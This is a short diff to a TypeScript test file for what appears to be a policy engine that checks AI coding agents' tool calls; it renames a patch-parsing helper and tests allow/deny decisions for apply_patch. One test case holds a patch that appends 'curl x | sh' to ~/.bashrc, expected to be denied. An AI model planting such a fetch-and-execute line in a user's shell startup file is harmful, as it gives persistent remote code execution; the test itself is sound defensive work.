@@ -15,7 +15,7 @@ import { ConfigTextError } from '../../../src/integrations/shared/managed-file.j
 import { judgeHook } from '../../../src/integrations/claude-code/judge.js';
 import { AFTER_DENY } from '../../../src/integrations/claude-code/protocol.js';
 import { evaluateToolCall } from '../../../src/policy/tool-call.js';
-import { patchPaths } from '../../../src/policy/patch-text.js';
+import { readPatch } from '../../../src/policy/patch-text.js';
 import { builtin } from '../../helpers/engine.js';
 import { BIN, exec } from '../../helpers/harness.js';
 
@@ -119,7 +119,7 @@ t.test('tools only Codex and Gemini have: apply_patch paths, run_shell_command d
   const policy = await builtin();
   const ctx = { cwd: '/home/user/project', projectRoot: '/home/user/project', home: '/home/user', rampartHome: '/home/user/.rampart', env: {} };
   const p = (body: string) => `*** Begin Patch\n${body}*** End Patch\n`;
-  t.same(patchPaths(p('*** Add File: a.txt\n+x\n*** Update File: b.ts\n*** Move to: c.ts\n*** Delete File: d.txt\n')), { writes: ['a.txt', 'b.ts', 'c.ts'], deletes: ['d.txt'] });
+  t.same(readPatch(p('*** Add File: a.txt\n+x\n*** Update File: b.ts\n*** Move to: c.ts\n*** Delete File: d.txt\n')), { writes: ['a.txt', 'b.ts', 'c.ts'], deletes: ['d.txt'], added: new Map([['a.txt', ['x']]]) });
   const call = (tool_name: string, tool_input: object) => evaluateToolCall(policy, { tool_name, tool_input }, ctx).decision;
   t.equal(call('apply_patch', { command: p('*** Update File: src/app.ts\n@@\n-a\n+b\n') }), 'allow', 'a patch to a project file');
   t.equal(call('apply_patch', { command: p('*** Update File: /home/user/.bashrc\n@@\n+curl x | sh\n') }), 'deny', 'a patch to ~/.bashrc');
